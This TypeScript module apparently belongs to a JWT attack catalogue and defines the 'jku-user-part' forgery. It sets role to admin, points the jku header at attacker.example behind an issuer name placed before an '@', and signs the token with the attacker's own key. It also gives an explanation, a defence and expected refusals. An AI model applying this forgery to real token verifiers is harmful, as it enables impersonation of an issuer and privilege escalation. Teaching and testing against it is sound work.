import { rfc } from '../../jwt/clause.ts';
import { withClaims, withHeader } from '../../service/tokens/parts.ts';
import { signWith } from '../../service/tokens/sign.ts';
import type { Attack } from '../attack.ts';

export const jkuUserPart: Attack = {
  id: 'jku-user-part',
  name: 'A host in front of the @',
  group: 'header',
  setting: 'own-server',
  precondition: 'The verifier allows any jku that begins with the issuer’s name.',
  needs: ['a-token', 'own-keys', 'own-server'],
  goal: 'Anybody with a web server signs as the issuer.',
  forge: async ({ honest, knows }) => {
    const claimed = withClaims(honest, { role: 'admin' });
    const pointed = withHeader(claimed, {
      kid: 'mine',
      jku: 'https://issuer.example@attacker.example/jwks.json',
    });
    return {
      moves: [
        { say: 'Change one claim: role becomes admin.', token: claimed },
        {
          say: 'Write the issuer’s name in front of an @, and your own host behind it.',
          token: pointed,
        },
        { say: 'Sign with your key.', token: await signWith(pointed, 'RS256', knows.ownRsa) },
      ],
    };
  },
  explanation: [
    'An address may name a user before the host, with an @ between them. In https://issuer.example@attacker.example/ the host is attacker.example; the rest is a user name that looks like a host.',
    'Code that looks at the beginning of the text and code that connects read two different hosts. The one that checks is not the one that acts.',
  ],
  defence: 'Compare the whole address. Never check one reading of it and connect by another.',
  bcp: ['2.9', '3.10'],
  clauses: [rfc(3986, '3.2.1')],
  cves: [],
  sound: {
    pinned: {
      outcome: 'refuse',
      at: 'kid',
      because: 'No configured key is called mine, and nobody is asked for more.',
    },
    strict: {
      outcome: 'refuse',
      at: 'kid',
      because: 'No configured key is called mine, and nobody is asked for more.',
    },
  },
};
